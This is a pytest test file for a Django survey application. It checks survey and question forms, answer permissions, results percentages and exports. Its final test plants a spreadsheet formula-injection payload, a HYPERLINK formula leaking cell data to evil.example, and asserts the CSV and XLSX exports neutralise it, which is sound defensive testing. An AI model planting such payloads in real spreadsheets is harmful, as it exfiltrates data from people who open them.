"""Survey pages: list, survey and question forms, answering, results with both bases,
responses, and exports whose cells never run as formulas."""

from __future__ import annotations

import csv
import io
import json
import re

import openpyxl
import pytest
from django.test import Client

from capdev.core.models import Organisation
from capdev.surveys import services
from capdev.surveys.models import Question, Response, Survey

from .conftest import Fixture, build_survey, texts


def client_for(world, persona: str) -> Client:
    client = Client()
    client.force_login(world.users[persona])
    return client


def html(response) -> str:
    return response.content.decode()


def answer_form(fixture: Fixture, picks=("A", "B", "C"), single="Yes", likert="4", text=""):
    return {
        f"q{fixture.pick.pk}": [str(pk) for pk in fixture.ids(fixture.pick, *picks)],
        f"q{fixture.single.pk}": str(fixture.choice(fixture.single, single).pk) if single else "",
        f"q{fixture.likert.pk}": likert,
        f"q{fixture.text.pk}": text,
    }


def respond(fixture: Fixture, world, key: str, **answers):
    return services.response_submit(
        user=None,
        survey=fixture.survey,
        organisation=world.organisations[key],
        answers=fixture.answers(**answers),
    )


# --- the list ---------------------------------------------------------------------------


def test_the_list_searches_filters_sorts_and_pages(world, django_assert_max_num_queries):
    for n in range(27):
        services.survey_create(user=None, data={"title": texts(f"Round {n:02d} survey")})
    build_survey("Employers' needs survey", status=Survey.Status.CLOSED)
    client = client_for(world, "hq")
    with django_assert_max_num_queries(8):
        first = html(client.get("/surveys/?sort=title"))
    assert "28 surveys" in first and 'rel="next"' in first
    assert first.index("Employers&#x27; needs survey") < first.index("Round 00 survey")
    second = html(client.get("/surveys/?sort=title&page=2"))
    assert "Round 26 survey" in second and 'rel="prev"' in second
    found = html(client.get("/surveys/?q=needs"))
    assert "1 survey" in found and "Employers&#x27; needs survey" in found
    closed = html(client.get("/surveys/?status=closed"))
    assert "1 survey" in closed
    empty = html(client.get("/surveys/?q=nothing-like-this"))
    assert "No survey matches" in empty
    partial = client.get("/surveys/?q=needs", headers={"HX-Request": "true"})
    assert "<h1>" not in html(partial) and "Employers&#x27; needs survey" in html(partial)


def test_a_focal_point_is_offered_no_new_survey(world):
    page = html(client_for(world, "focal").get("/surveys/"))
    assert "New survey" not in page and "No surveys yet." in page
    assert client_for(world, "focal").get("/surveys/new/").status_code == 403


# --- surveys and questions ----------------------------------------------------------------


def survey_post(**changes) -> dict[str, str]:
    data = {f"title_{code}": text for code, text in texts("Needs survey").items()}
    return {"status": "draft", "opens": "", "closes": "", "owner_office": "", **data, **changes}


def test_office_staff_create_a_survey_for_their_office(world):
    client = client_for(world, "office_a")
    form = html(client.get("/surveys/new/"))
    office_a = world.offices["a"]
    assert f'<option value="{office_a.pk}" selected>' in form
    response = client.post("/surveys/new/", survey_post(owner_office=str(office_a.pk)))
    survey = Survey.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/surveys/{survey.pk}/"
    assert survey.title == texts("Needs survey") and survey.owner_office == office_a


def test_a_survey_form_with_errors_saves_nothing_and_says_why(world):
    client = client_for(world, "office_a")
    response = client.post(
        "/surveys/new/",
        survey_post(title_en="", opens="2025-03-01", closes="2025-02-01", owner_office=""),
    )
    assert response.status_code == 400
    page = html(response)
    assert "Nothing was saved" in page and "This field is required." in page
    refused = client.post("/surveys/new/", survey_post(owner_office=""))
    assert refused.status_code == 400
    assert "You may only run surveys for an office of your own" in html(refused)
    assert not Survey.objects.exists()


def test_a_survey_without_questions_does_not_open(world):
    survey = services.survey_create(user=None, data={"title": texts("Empty")})
    response = client_for(world, "hq").post(
        f"/surveys/{survey.pk}/edit/", survey_post(status="open")
    )
    assert response.status_code == 400
    assert "Add at least one question before opening the survey." in html(response)
    assert Survey.objects.get().status == "draft"


def question_post(**changes) -> dict[str, str]:
    data = {f"label_{code}": text for code, text in texts("Pick two").items()}
    data |= {"kind": "pick_k", "k": "2", "required": "on"}
    data |= {"choices_en": "One\nTwo\nThree", "choices_fr": "Un\nDeux\nTrois"}
    data |= {"choices_es": "", "choices_zh": "一\n二\n三"}
    return data | changes


def test_questions_are_added_edited_moved_and_deleted_with_confirmation(world):
    survey = services.survey_create(user=None, data={"title": texts("Draft")})
    client = client_for(world, "hq")
    added = client.post(f"/surveys/{survey.pk}/questions/new/", question_post())
    assert added.status_code == 302
    first = survey.questions.get()
    assert [c.label for c in first.choices.all()] == [
        {"en": "One", "fr": "Un", "zh": "一"},
        {"en": "Two", "fr": "Deux", "zh": "二"},
        {"en": "Three", "fr": "Trois", "zh": "三"},
    ]
    client.post(
        f"/surveys/{survey.pk}/questions/new/",
        question_post(
            kind="likert", k="", choices_en="", choices_fr="", choices_zh="", label_en="Agree?"
        ),
    )
    second = survey.questions.get(position=2)
    assert (second.kind, second.k) == ("likert", None)
    edit = client.get(f"/surveys/{survey.pk}/questions/{first.pk}/edit/")
    assert "One\nTwo\nThree" in html(edit)
    client.post(f"/surveys/{survey.pk}/questions/{second.pk}/move/", {"direction": "up"})
    assert list(survey.questions.values_list("label__en", flat=True)) == ["Agree?", "Pick two"]
    confirm = client.get(f"/surveys/{survey.pk}/questions/{second.pk}/delete/")
    assert "Delete question 1?" in html(confirm) and Question.objects.count() == 2
    client.post(f"/surveys/{survey.pk}/questions/{second.pk}/delete/")
    assert list(survey.questions.values_list("label__en", "position")) == [("Pick two", 1)]


def test_choices_in_another_language_must_match_the_english_lines(world):
    survey = services.survey_create(user=None, data={"title": texts("Draft")})
    response = client_for(world, "hq").post(
        f"/surveys/{survey.pk}/questions/new/", question_post(choices_fr="Un\nDeux")
    )
    assert response.status_code == 400
    assert "Give 3 lines, as in English, or none." in html(response)
    too_many = client_for(world, "hq").post(
        f"/surveys/{survey.pk}/questions/new/", question_post(k="3")
    )
    assert "With 3 choices, k must be less than 3." in html(too_many)
    assert not Question.objects.exists()


def test_once_answered_the_questions_are_locked_with_a_clear_message(fixture, world):
    respond(fixture, world, "KE-gov")
    client = client_for(world, "hq")
    detail = html(client.get(f"/surveys/{fixture.survey.pk}/"))
    assert "its questions and choices can no longer change" in detail
    assert f"/questions/{fixture.pick.pk}/edit/" not in detail
    refused = client.get(f"/surveys/{fixture.survey.pk}/questions/{fixture.pick.pk}/edit/")
    assert refused.status_code == 302
    shown = html(client.get(refused["Location"]))
    assert "This survey has responses: its questions and choices can no longer change" in shown
    client.post(f"/surveys/{fixture.survey.pk}/questions/{fixture.pick.pk}/delete/")
    assert fixture.survey.questions.count() == 4


# --- answering ----------------------------------------------------------------------------


def test_a_focal_point_answers_for_their_organisation(fixture, world):
    client = client_for(world, "focal")
    ministry = world.organisations["KE-gov"]
    detail = html(client.get(f"/surveys/{fixture.survey.pk}/"))
    assert "Answer the survey" in detail
    form = html(client.get(f"/surveys/{fixture.survey.pk}/respond/"))
    assert f'<option value="{ministry.pk}" selected>' in form
    assert 'name="group"' not in form  # the group comes from the organisation
    select = form[
        form.index('id="id_organisation"') : form.index(
            "</select>", form.index('id="id_organisation"')
        )
    ]
    assert select.count("<option value=") == 1  # their organisation only
    assert "Choose exactly 3 options." in form
    response = client.post(
        f"/surveys/{fixture.survey.pk}/respond/",
        {"organisation": ministry.pk, **answer_form(fixture, text="Useful.")},
    )
    assert response.status_code == 302
    saved = Response.objects.get()
    assert (saved.group, saved.organisation, saved.source) == ("government", ministry, "browser")
    assert "Thank you: the answers are recorded." in html(client.get(response["Location"]))


def test_a_wrong_answer_is_shown_next_to_its_question_and_nothing_is_saved(fixture, world):
    client = client_for(world, "focal")
    response = client.post(
        f"/surveys/{fixture.survey.pk}/respond/",
        {
            "organisation": world.organisations["KE-gov"].pk,
            **answer_form(fixture, picks=("A", "B"), single=None, likert="7"),
        },
    )
    assert response.status_code == 400
    page = html(response)
    assert "Nothing was saved" in page
    assert "Choose exactly 3 options (you chose 2)." in page
    assert "This question needs an answer." in page
    assert "Give a value from 1 (strongly disagree) to 5 (strongly agree), not “7”." in page
    assert not Response.objects.exists()
    # The choices made are kept in the form.
    a = fixture.choice(fixture.pick, "A").pk
    assert re.search(rf'value="{a}"[^>]*checked', page)


def test_a_respondent_without_an_organisation_gives_a_group(fixture, world):
    client = client_for(world, "workers")
    refused = client.post(f"/surveys/{fixture.survey.pk}/respond/", answer_form(fixture))
    assert refused.status_code == 400
    assert "Say which constituent group the respondent belongs to" in html(refused)
    outside = client.post(
        f"/surveys/{fixture.survey.pk}/respond/", {"group": "employers", **answer_form(fixture)}
    )
    assert outside.status_code == 400
    assert "You may only answer for an organisation, group or country in your scope." in html(
        outside
    )
    assert not Response.objects.exists()
    client.post(
        f"/surveys/{fixture.survey.pk}/respond/", {"group": "workers", **answer_form(fixture)}
    )
    assert Response.objects.get().group == "workers"


def test_a_closed_survey_takes_no_answers(fixture, world):
    services.survey_update(user=None, survey=fixture.survey, data={"status": "closed"})
    client = client_for(world, "hq")
    assert "Answer the survey" not in html(client.get(f"/surveys/{fixture.survey.pk}/"))
    page = client.get(f"/surveys/{fixture.survey.pk}/respond/")
    assert "This survey is not open for answers." in html(page)
    posted = client.post(
        f"/surveys/{fixture.survey.pk}/respond/",
        {"organisation": world.organisations["KE-gov"].pk, **answer_form(fixture)},
    )
    assert posted.status_code == 400 and not Response.objects.exists()


def test_evaluators_and_viewers_do_not_answer(fixture, world):
    for persona in ("evaluator", "viewer"):
        client = client_for(world, persona)
        assert "Answer the survey" not in html(client.get(f"/surveys/{fixture.survey.pk}/"))
        assert client.get(f"/surveys/{fixture.survey.pk}/respond/").status_code == 403


# --- results --------------------------------------------------------------------------------


@pytest.fixture
def answered(fixture: Fixture, world) -> Fixture:
    respond(fixture, world, "KE-gov", picks=("A", "B", "C"))
    respond(fixture, world, "UG-gov", picks=("A", "B", "D"))
    respond(fixture, world, "KE-wrk", picks=("A", "E", "F"), text="More courses")
    return fixture


def chart_spec(page: str, chart_id: str) -> dict:
    found = re.search(
        rf'<script id="{chart_id}" type="application/json">(.*?)</script>', page, re.S
    )
    assert found, chart_id
    return json.loads(found.group(1))


def test_the_results_page_names_its_base_and_toggles_it(answered, world):
    client = client_for(world, "hq")
    url = f"/surveys/{answered.survey.pk}/"
    page = html(client.get(url))
    assert "Results over the 3 responses you can see" in page
    assert "Figure 1 — 1. Choose three approaches" in page
    spec = chart_spec(page, f"question-{answered.pick.pk}-chart")
    assert spec["encoding"]["x"]["title"] == "Share of all selections (%)"
    assert "Question 1 by respondent group — Share of all selections (%)" in page
    assert "33.3 % <small>(2)</small>" in page  # A: 2 of the government's 6 selections
    assert 'href="?base=respondents#results"' in page
    toggled = html(client.get(url + "?base=respondents"))
    spec = chart_spec(toggled, f"question-{answered.pick.pk}-chart")
    assert spec["encoding"]["x"]["title"] == "Share of respondents who chose it (%)"
    assert "Question 1 by respondent group — Share of respondents who chose it (%)" in toggled
    assert "100.0 % <small>(2)</small>" in toggled
    assert 'data-base="respondents" aria-current="true"' in toggled
    # Single choice and Likert keep their own bases.
    assert "Question 2 by respondent group — Share of respondents (%)" in toggled
    assert "Question 3 by respondent group — Share of respondents who answered (%)" in toggled
    assert "More courses" in toggled


def test_the_results_page_filters_and_counts_only_what_the_reader_sees(answered, world):
    url = f"/surveys/{answered.survey.pk}/"
    page = html(client_for(world, "hq").get(url + "?group=workers&base=respondents"))
    assert "Results over the 1 response you can see" in page and "(with the filters below)" in page
    assert 'href="?group=workers&amp;base=selections#results"' in page
    page = html(client_for(world, "hq").get(url + "?country=UG"))
    assert "Results over the 1 response you can see" in page
    focal = html(client_for(world, "focal").get(url))
    assert "Results over the 1 response you can see" in focal
    assert "More courses" not in focal  # the workers' answer is outside the ministry's scope


def test_the_results_page_takes_a_bounded_number_of_queries(
    answered, world, django_assert_max_num_queries
):
    client = client_for(world, "hq")
    with django_assert_max_num_queries(40):
        client.get(f"/surveys/{answered.survey.pk}/")


# --- responses and exports -------------------------------------------------------------------


def test_responses_are_listed_filtered_and_deleted_after_confirmation(answered, world):
    client = client_for(world, "hq")
    listing = html(client.get(f"/surveys/{answered.survey.pk}/responses/?group=government"))
    assert "2 responses" in listing and "Trade Union Centre KE" not in listing
    response = Response.objects.get(organisation=world.organisations["KE-wrk"])
    detail = html(client.get(f"/surveys/responses/{response.pk}/"))
    assert "More courses" in detail and "Change history" in detail
    confirm = html(client.get(f"/surveys/responses/{response.pk}/delete/"))
    assert "Delete the response of Trade Union Centre KE?" in confirm
    assert Response.objects.count() == 3
    client.post(f"/surveys/responses/{response.pk}/delete/")
    assert Response.objects.count() == 2
    assert (
        client_for(world, "office_a")
        .get(f"/surveys/responses/{Response.objects.first().pk}/delete/")
        .status_code
        == 403
    )


def test_exports_give_both_bases_and_neutralise_formulas(answered, world):
    hostile = Organisation.objects.create(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        country=world.countries["KE"],
        group="employers",
        kind="employers_organisation",
    )
    respond(answered, world, "KE-emp", picks=("B", "C", "D"), text="@SUM(A1:A9)")
    services.response_submit(
        user=None,
        survey=answered.survey,
        organisation=hostile,
        answers=answered.answers(("A", "B", "C"), text="-2+3"),
    )
    client = client_for(world, "hq")
    base = f"/surveys/{answered.survey.pk}/export/"
    results = client.get(base + "results.csv")
    assert results["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(results.content.decode("utf-8-sig"))))
    a_government = next(
        r for r in rows if r["Option"] == "A" and r["Respondent group"] == "Government"
    )
    assert a_government["Share of all selections (%)"] == "33.33"  # 2 of 6
    assert a_government["Share of respondents who chose it (%)"] == "100.0"  # 2 of 2
    assert a_government["All selections in the group"] == "6"
    responses = client.get(base + "responses.csv").content.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in responses
    assert "'@SUM(A1:A9)" in responses and "'-2+3" in responses
    book = openpyxl.load_workbook(io.BytesIO(client.get(base + "responses.xlsx").content))
    cells = {cell.value: cell for row in book.active.iter_rows() for cell in row}
    for text in (hostile.name, "@SUM(A1:A9)", "-2+3"):  # unchanged text, never a formula
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    assert not any(cell.data_type == "f" for cell in cells.values())
    book = openpyxl.load_workbook(io.BytesIO(client.get(base + "results.xlsx").content))
    assert book.active.max_row == 1 + 5 * (6 + 3 + 5)  # (options + points) × columns
    focal = client_for(world, "focal").get(base + "responses.csv").content.decode("utf-8-sig")
    assert len(focal.strip().splitlines()) == 2  # the header and the ministry's one response
    assert client.get(f"/surveys/{answered.survey.pk}/export/everything.csv").status_code == 404
